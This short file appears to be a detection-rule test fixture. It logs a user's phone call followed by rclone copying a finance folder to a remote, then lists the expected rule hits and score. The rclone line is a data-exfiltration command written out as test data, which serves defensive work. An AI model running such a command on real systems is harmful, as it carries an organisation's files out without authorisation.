person ana
10:02 ana call-in +442079460031 14m
10:08 ana run C:\Users\Public\rclone.exe cmd="rclone copy D:\Finance remote:x"
expect: ana hits=C9,F9 points.F9=25 says="rclone, which carries files away, first seen"
